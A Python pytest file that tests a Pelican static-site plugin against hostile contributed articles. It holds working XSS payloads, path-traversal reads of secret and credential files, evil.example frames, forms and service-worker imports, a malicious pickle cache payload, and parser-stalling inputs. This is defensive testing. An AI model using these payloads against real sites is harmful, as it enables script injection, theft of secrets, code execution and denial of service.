"""Each row of the table of attacks: it succeeds on a plain Pelican, and fails here."""

from __future__ import annotations

import gzip
import json
import pickle
import subprocess
import sys
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from plugins.workshop import ROOT
from tests.security.ground import Built, File, build_ours, build_vanilla, find_intruders, make_source, write_tree

ROOMS = "articles/2026"
FOLDER = f"content/{ROOMS}"
RESTRUCTURED = """
R
#

:date: 2026-10-05
:slug: rst

.. raw:: html

   <script>alert(18)</script>

.. include:: ../../../secret.txt
"""
PAGE = (
    '<html><head><title>page</title><meta name="date" content="2026-10-05"></head>'
    "<body><script>alert(19)</script></body></html>"
)


@dataclass(frozen=True)
class Attack:
    """One contributed article, with what else it brings.

    `proof` stands in a file matching `where` of the plain Pelican's output; with `removed` it is nowhere in ours,
    else ours names the `findings`, each as place and code.
    """

    proof: str = ""
    where: str = "{stem}-ca.html"
    body: str = "Words."
    keys: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, File] = field(default_factory=dict)
    findings: tuple[str, ...] = ()

    def tree(self, stem: str) -> dict[str, File]:
        """Return the attack's files by path."""
        return {f"{FOLDER}/{stem}.ca.md": make_source(stem, self.body, **self.keys), **self.files}


def _body(proof: str, body: str, *findings: str) -> Attack:
    return Attack(proof=proof, body=body, findings=findings)


def _published(path: str, proof: str, body: str, *findings: str, files: Mapping[str, File] | None = None) -> Attack:
    return Attack(proof=proof, where=path, body=body, files=files or {}, findings=findings)


ATTACKS = {
    # Files from outside content/, and over files of the site.
    "attach-secret": _published("secret.txt", "secret of the owner", "[x]({attach}../../../secret.txt)", "10:5: E129"),
    "attach-git": _published("config", "token of the owner", "[x]({attach}../../../.git/config)", "10:5: E129"),
    "attach-environ": _published(
        "environ", "SOURCE_DATE_EPOCH", "[x]({attach}" + "../" * 30 + "proc/self/environ)", "10:5: E129"
    ),
    "attach-style": _published(
        "theme/css/main.css",
        "body{display:none}",
        "[x]({attach}theme/css/main.css)",
        "10:5: E129",
        files={f"{FOLDER}/theme/css/main.css": "body{display:none}"},
    ),
    "attach-headers": _published(
        "_headers",
        "Access-Control-Allow-Origin: *",
        "[x]({attach}_headers)",
        "10:5: E129",
        files={f"{FOLDER}/_headers": "/*\n  Access-Control-Allow-Origin: *\n"},
    ),
    "attach-worker": _published(
        "sw.js",
        "importScripts",
        "[x]({attach}sw.js)",
        "10:5: E129",
        files={f"{FOLDER}/sw.js": "importScripts('https://evil.example/sw.js')"},
    ),
    # Scripts, handlers and what mutates into them.
    "script": _body("<script>alert('tag')", "<script>alert('tag')</script>"),
    "handler": _body("onerror=alert(1)", "a <img src=x onerror=alert(1)>"),
    "srcdoc": _body("<iframe srcdoc", 'a <iframe srcdoc="<script>alert(2)</script>"></iframe>'),
    "svg": _body("<svg onload=alert(3)", "a <svg onload=alert(3)></svg>"),
    "md-in-html": _body('onclick="alert(4)"', '<div markdown="1" onclick="alert(4)">*x*</div>'),
    "note": _body("<script>alert('note')", "x[^1]\n\n[^1]: <script>alert('note')</script>"),
    "mutation": _body("</noscript><img", '<noscript><p title="</noscript><img src=x onerror=alert(5)>"></noscript>'),
    # Links that run.
    "javascript": _body('href="javascript:alert(5)"', "[x](javascript:alert(5))", "10:5: E130"),
    "entities-in-link": _body('href="&#106;avascript:', "[x](&#106;avascript:alert(6))", "10:5: E130"),
    "expanded-later": _body('href="javascript:/', "[x]({index}javascript:alert(7))", "10:5: E129"),
    "expanded-raw": _body('href="javascript:', 'a <a href="{filename}javascript:alert(20)">x</a>', "10:12: E134"),
    "raw-link": _body('href="JavaScript:', 'a <a href="JavaScript:alert(8)">x</a>'),
    # Attribute lists.
    "attribute-list": _body('onclick="alert(9)"', 'para\n{: onclick="alert(9)" }'),
    "overlay": _body('style="position:fixed', 'para\n{: style="position:fixed;inset:0;background:red" }'),
    # What loads or leads elsewhere.
    "iframe": _body("<iframe src", 'a <iframe src="https://evil.example/"></iframe>'),
    "object": _body("<object data", 'a <object data="https://evil.example/o"></object>'),
    "form": _body("<form action", 'a <form action="https://evil.example/"><input name="x"></form>'),
    "refresh": _body('http-equiv="refresh"', 'a <meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    "base": _body("<base href", 'a <base href="https://evil.example/">'),
    "stylesheet": _body("evil.example/e.css", 'a <link rel="stylesheet" href="https://evil.example/e.css">'),
    "tracker": _body("evil.example/t.gif", "![x](https://evil.example/t.gif)", "10:6: E140"),
    "raw-tracker": _body("evil.example/u.gif", 'a <img src="https://evil.example/u.gif">'),
    # Texts of the head.
    "title": Attack("<script>alert(11)", keys={"title": "T <script>alert(11)</script>"}),
    "summary": Attack("<script>alert(12)", "*.html", keys={"summary": "S <script>alert(12)</script>"}),
    "entities": Attack(
        "</title><script>alert(13)", keys={"title": "T &lt;/title&gt;&lt;script&gt;alert(13)&lt;/script&gt;"}
    ),
    "author": Attack("<script>alert(14)", keys={"authors": "A <script>alert(14)</script>"}, findings=("8:10: E112",)),
    "tag": Attack(
        "<script>alert(15)", "tag/*.html", keys={"tags": "t <script>alert(15)</script>"}, findings=("9:7: E112",)
    ),
    "category": Attack(
        "<script>alert(16)", keys={"category": "c <script>alert(16)</script>"}, findings=("7:11: E112",)
    ),
    # Keys that become attributes.
    "save-as": Attack("save-as", "pwned.html", keys={"save_as": "pwned.html"}, findings=("9:1: E104",)),
    "url": Attack(
        'href="//evil.example/phish"', "*.html", keys={"url": "/evil.example/phish"}, findings=("9:1: E104",)
    ),
    "duplicate-key": Attack("Words.", "first-ca.html", keys={"slug": "first\nslug: second"}, findings=("5:1: E103",)),
    # Links in the file system, and sources that are no Markdown.
    "link": _published(
        f"{ROOMS}/link.txt",
        "secret of the owner",
        "[x]({static}link.txt)",
        "10:5: E128",
        files={f"{FOLDER}/link.txt": Path("../../../secret.txt")},
    ),
    "linked-folder": Attack(
        "secret of the owner", "images/linked/secret.txt", files={"content/images/linked": Path("../../elsewhere")}
    ),
    "restructured": Attack("secret of the owner", "rst.html", files={f"{FOLDER}/rst.rst": RESTRUCTURED}),
    "html": Attack("alert(19)", "page.html", files={f"{FOLDER}/page.html": PAGE}),
}
VICTIM: dict[str, str] = {f"{FOLDER}/victim.ca.md": make_source("victim", "The victim's own words.")}
OWNED: dict[str, File] = {
    "secret.txt": "secret of the owner",
    "elsewhere/secret.txt": "secret of the owner",
    ".git/config": "token of the owner",
    **VICTIM,
}

# Each alone, since a plain Pelican stops or stumbles over it; with the place and code that ours names.
BREAKING = {
    "slug-of-home": (make_source("index"), ""),
    "wrongly-victim": (make_source("other", slug="victim"), "1:1: E133"),
    "long-slug": (make_source("long", slug="a" * 300), "4:7: E109"),
    "template": (make_source("template", template="nobody"), "9:1: E104"),
    "method": (make_source("method", get_content="x"), "9:1: E104"),
}
REFUSED = sorted(name for name, attack in ATTACKS.items() if attack.findings)
REMOVED = sorted(set(ATTACKS) - set(REFUSED))


def _gather(names: list[str]) -> dict[str, File]:
    files = dict(OWNED)
    for name in names:
        files |= ATTACKS[name].tree(name)
    return files


@pytest.fixture(scope="module")
def vanilla(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """What a plain Pelican makes of all attacks in one go."""
    return build_vanilla(tmp_path_factory.mktemp("vanilla"), _gather(sorted(ATTACKS)))


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """What this site makes of those that it refuses."""
    return build_ours(tmp_path_factory.mktemp("refused") / "project", _gather(REFUSED))


@pytest.fixture(scope="module")
def removed(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """What this site makes of those from which it takes the sting."""
    return build_ours(tmp_path_factory.mktemp("removed") / "project", _gather(REMOVED))


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_succeeds_on_a_plain_pelican(vanilla: Built, name: str) -> None:
    """A plain Pelican publishes it and reports success: the attack is real."""
    attack = ATTACKS[name]
    assert vanilla.code == 0, vanilla.said
    assert attack.proof in vanilla.read(attack.where.format(stem=name))


@pytest.mark.parametrize("name", REFUSED)
def test_attack_is_refused(refused: Built, name: str) -> None:
    """Ours names the file, the place and the fault."""
    for finding in ATTACKS[name].findings:
        assert f"{FOLDER}/{name}.ca.md:{finding} " in refused.said


def test_refusal_writes_nothing(refused: Built) -> None:
    """One fault is enough for the build to fail, and the victims' own articles are not half written."""
    assert refused.code == 1
    assert not refused.output.exists() or refused.written() == []


@pytest.mark.parametrize("name", REMOVED)
def test_attack_is_removed(removed: Built, name: str) -> None:
    """Ours publishes the article without what was in it; escaped, it is words."""
    assert removed.code == 0, removed.said
    assert ATTACKS[name].proof not in removed.read("**/*")
    assert removed.read(f"blog/{name}/index.html") != ""


def test_nothing_foreign_is_left(removed: Built) -> None:
    """No script, handler, frame, style or foreign address is in any page or feed."""
    assert list(find_intruders(removed.output)) == []


def test_only_known_kinds_of_file_are_written(removed: Built) -> None:
    """What is linked from content/ or lies there is not copied: pages, feeds, assets and cards alone are written."""
    written = {path for path in removed.written() if path.split("/")[0] not in {"assets", "cards"}}
    assert {Path(path).suffix for path in written} <= {".html", ".xml", ".txt", ".json", ".conf", ""}
    assert not any(path.endswith(("secret.txt", "page/index.html", "rst/index.html")) for path in written)


def test_intruders_are_found(vanilla: Built) -> None:
    """The judge of the tests above does see what a plain Pelican lets through."""
    found = "\n".join(find_intruders(vanilla.output))
    for harm in ("<script>", "onerror=", "<iframe>", "srcdoc=", "javascript:", "<form>", "style=", "refresh", "evil"):
        assert harm in found


@pytest.mark.parametrize("name", BREAKING)
def test_one_file_breaks_a_plain_pelican(tmp_path: Path, name: str) -> None:
    """One contributed file keeps everyone else's from being published, and nothing says on which line."""
    sources = {**VICTIM, f"{FOLDER}/{name}.ca.md": BREAKING[name][0]}
    built = build_vanilla(tmp_path, {path: text.replace("lang: ca", "lang: en") for path, text in sources.items()})
    assert built.code != 0
    assert f"{name}.ca.md:" not in built.said


def test_breaking_files_are_told_by_line(tmp_path: Path) -> None:
    """Ours finds all of them at once, before anything is written."""
    files = {f"{FOLDER}/{name}.ca.md": source for name, (source, _) in BREAKING.items()}
    built = build_ours(tmp_path / "project", {**VICTIM, **files})
    assert built.code == 1
    for name, (_, finding) in BREAKING.items():
        assert not finding or f"{FOLDER}/{name}.ca.md:{finding} " in built.said


def test_takeover_of_a_translation(tmp_path: Path) -> None:
    """A plain Pelican takes whoever uses another's slug for its translation; ours goes by `translation_of` alone."""
    files = {**VICTIM, f"{FOLDER}/evil.gl.md": make_source("evil", "Taken over.", lang="gl", slug="victim")}
    vanilla = build_vanilla(tmp_path / "vanilla", files)
    assert 'hreflang="gl"' in vanilla.read("victim-ca.html")
    ours = build_ours(tmp_path / "ours", files)
    assert ours.code == 0, ours.said
    assert 'hreflang="gl" href' not in ours.read("blog/victim/index.html")
    claim = {f"{FOLDER}/evil.gl.md": make_source("evil", lang="gl", slug="victim", translation_of="victim.ca.md")}
    claimed = build_ours(tmp_path / "claimed", {**VICTIM, **claim})
    assert claimed.code == 1
    assert f"{FOLDER}/evil.gl.md:1:1: E132 " in claimed.said


def test_links_and_loops_in_the_file_system(tmp_path: Path) -> None:
    """A plain Pelican follows links out of content/ and round in circles; ours reads regular files alone."""
    outside = {"elsewhere/notes.md": make_source("private-notes", "Private words.")}
    links = {
        f"{FOLDER}/outside": Path("../../../elsewhere"),
        f"{FOLDER}/linked.ca.md": Path("../../../elsewhere/notes.md"),
    }
    vanilla = build_vanilla(tmp_path / "vanilla", {**outside, f"{FOLDER}/outside": links[f"{FOLDER}/outside"]})
    assert "Private words." in vanilla.read("private-notes-ca.html")
    looping = build_vanilla(tmp_path / "looping", {**VICTIM, f"{FOLDER}/loop": Path()})
    assert (looping.code, "loop/loop/loop" in looping.said) == (1, True)
    ours = build_ours(tmp_path / "ours", {**outside, **links, **VICTIM, f"{FOLDER}/loop": Path()})
    assert ours.code == 1
    for path in ("linked.ca.md", "outside/notes.md"):
        assert f"{FOLDER}/{path}:1:1: E117 " in ours.said


def test_missing_article_with_an_impossible_date(tmp_path: Path) -> None:
    """A plain Pelican leaves the article out and reports success; ours fails, and says where."""
    files = {f"{FOLDER}/dated.ca.md": make_source("dated", date="2026-13-45")}
    vanilla = build_vanilla(tmp_path / "vanilla", files)
    assert (vanilla.code, vanilla.read("dated*.html")) == (0, "")
    ours = build_ours(tmp_path / "ours", files)
    assert ours.code == 1
    assert f"{FOLDER}/dated.ca.md:6:7: E110 " in ours.said


class _Payload:
    """Unpickled, it leaves a mark."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.mark,)


CACHES = ("ArticlesGenerator-Readers", "ArticlesGenerator", "PagesGenerator-Readers")


def _caches(folder: Path, names: Sequence[str]) -> dict[str, File]:
    """Return caches that, once loaded, leave a mark of their own name in *folder*."""
    loaded = {name: gzip.compress(pickle.dumps(_Payload(folder / name))) for name in names}
    return {f"{place}/{name}": cache for name, cache in loaded.items() for place in ("cache", "content/cache")}


@pytest.fixture(scope="module")
def cached(tmp_path_factory: pytest.TempPathFactory) -> tuple[Built, Path]:
    """What this site makes of all caches, and the folder in which those that are loaded leave their marks."""
    root = tmp_path_factory.mktemp("cached")
    return build_ours(root / "project", {**VICTIM, **_caches(root, CACHES)}), root


def test_committed_cache_runs_in_a_plain_pelican(tmp_path: Path) -> None:
    """A plain Pelican that was told to keep its caches runs what a contributed one holds."""
    files = {**VICTIM, **_caches(tmp_path, CACHES[:1])}
    build_vanilla(tmp_path / "vanilla", files, "-e", "LOAD_CONTENT_CACHE=true", "CACHE_CONTENT=true")
    assert (tmp_path / CACHES[0]).exists()


@pytest.mark.parametrize("name", CACHES)
def test_committed_caches_are_never_loaded(cached: tuple[Built, Path], name: str) -> None:
    """Ours loads none."""
    built, marks = cached
    assert built.code == 0, built.said
    assert not (marks / name).exists()


# Bodies and heads that hold up builds or their checks, each with the code of the finding that it gets, if any.
STALLING = {
    "brackets": ("[" * 20_000, "E139"),
    "pictures": ("<img src='" * 5_000, "E139"),
    "quotes": (">" * 30_000, "E139"),
    "emphasis": ("*" * 30_000, ""),
    "lists": ("".join("    " * depth + "+ x\n" for depth in range(170)), ""),
    "notes": ("[^1]" * 15_000, "E139"),
    "long": ("word " * 2_000_000, "E125"),
    "underscores": ("a_" * 30_000, ""),
    "backticks": ("".join("`" * length + " " for length in range(1, 340)), "E139"),
    "entities": ("&" * 60_000, ""),
    "digits": ("1" * 60_000, ""),
    "spaced-digits": ("6 " * 30_000, ""),
    "names": ("Aa " * 20_000, ""),
    "addresses": ("a@" * 30_000, ""),
    "domains": ("a." * 30_000, ""),
    "quoted": ("'\"" * 30_000, ""),
    "dashes": ("a--" * 20_000, ""),
    "one-word": ("a" * 64_000, ""),
    "spaces": ("a" + " " * 60_000 + "b", ""),
    "lines": ("\n" * 60_000, ""),
    "table": ("|a" * 15_000 + "\n" + "|-" * 15_000 + "\n" + "|b\n" * 300, "E139"),
    "long-table": ("|a|b\n|-|-\n" + "|c\n" * 15_000, "E139"),
    "bearable-table": ("|a" * 40 + "\n" + "|-" * 40 + "\n" + "|b\n" * 390, ""),
    "codes": ("`a` " * 15_000, "E139"),
    "bearable-codes": ("`a` " * 1_000, ""),
    "closing": ("](" * 30_000, ""),
    "abbreviations": ("".join(f"*[a{n}]: b\n" for n in range(390)) + "a " * 20_000, "E139"),
    "bearable-abbreviations": ("".join(f"*[a{n}]: b\n" for n in range(60)) + "a " * 30_000, ""),
}
STALLING_HEADS = {
    "aliases": ("x: &a [x,x,x,x]\n" + "".join(f"x{n}: &a{n} [{'*a,' * 9}]\n" for n in range(20)), "E102"),
    "merges": ("x: &a {b: c}\ny: {<<: *a}\n", "E102"),
    "deep": ("tags: " + "[" * 50_000, "E105"),
    "deep-mapping": ("tags: " + "{a: " * 12_000, "E105"),
    "long-title": ("picture_alt: " + "a" * 30_000, "E105"),
    "many-tags": (f"tags: [{', '.join(f't{n}' for n in range(3_000))}]", "E112"),
    "many-keys": ("".join(f"k{n}: v\n" for n in range(6_000)), "E104"),
}
_MEASURE = """
import json, re, sys, time
from pathlib import Path
from plugins.contributions.checking import open_desk
from plugins.contributions.reading import SourceReader

def peak():
    return int(re.search(r"VmHWM:\\s*(\\d+)", Path("/proc/self/status").read_text())[1])

content = Path(sys.argv[1])
desk = open_desk(content, [{"code": "ca"}], "ca")
reader = SourceReader(content, desk.rules, lambda _, message: message, desk.editor)
reader.read(content / "pages/usual.ca.md")
for file in sorted(content.glob("articles/*")):
    Path("/proc/self/clear_refs").write_text("5")  # counts the peak anew: getrusage would tell that of the parent
    before, start = peak(), time.process_time()
    source = reader.read(file)
    seconds, mebibytes = time.process_time() - start, (peak() - before) / 1024
    codes = sorted({found.code for found in source.findings})
    print(json.dumps({"name": file.name, "seconds": seconds, "mebibytes": mebibytes, "codes": codes}), flush=True)
"""


@pytest.fixture(scope="module")
def measured(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """What reading and checking each of the stalling files took, one after another in a process of their own."""
    root = tmp_path_factory.mktemp("stalling")
    files: dict[str, File] = {"content/pages/usual.ca.md": make_source("usual"), "content/data": ROOT / "content/data"}
    for name in (*STALLING, *STALLING_HEADS):
        body, head = STALLING.get(name, ("Words.",))[0], STALLING_HEADS.get(name, ("status: draft",))[0]
        source = make_source(name, body).replace("authors: [cft]", f"authors: [cft]\n{head}")
        files[f"content/articles/{name}.ca.md"] = source
    write_tree(root, files)
    command = [sys.executable, "-c", _MEASURE, str(root / "content")]
    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True, timeout=120)
    found = [json.loads(line) for line in result.stdout.splitlines()]
    return {one["name"].removesuffix(".ca.md"): one for one in found}


@pytest.mark.parametrize(("name", "code"), [(name, code) for name, (_, code) in (STALLING | STALLING_HEADS).items()])
def test_stalling_files_end_soon(measured: dict[str, dict[str, Any]], name: str, code: str) -> None:
    """Each ends within 2 s of processor time and 300 MiB, and is told of where it is no bearable text."""
    assert measured[name]["seconds"] < 2
    assert measured[name]["mebibytes"] < 300
    assert code in {"", *measured[name]["codes"]}


def test_brackets_stall_a_plain_pelican(tmp_path: Path) -> None:
    """The twenty thousand brackets that end soon here keep a plain Pelican busy for longer than anyone waits."""
    with pytest.raises(subprocess.TimeoutExpired):
        build_vanilla(tmp_path, {f"{FOLDER}/x.ca.md": make_source("x", STALLING["brackets"][0])}, seconds=4)
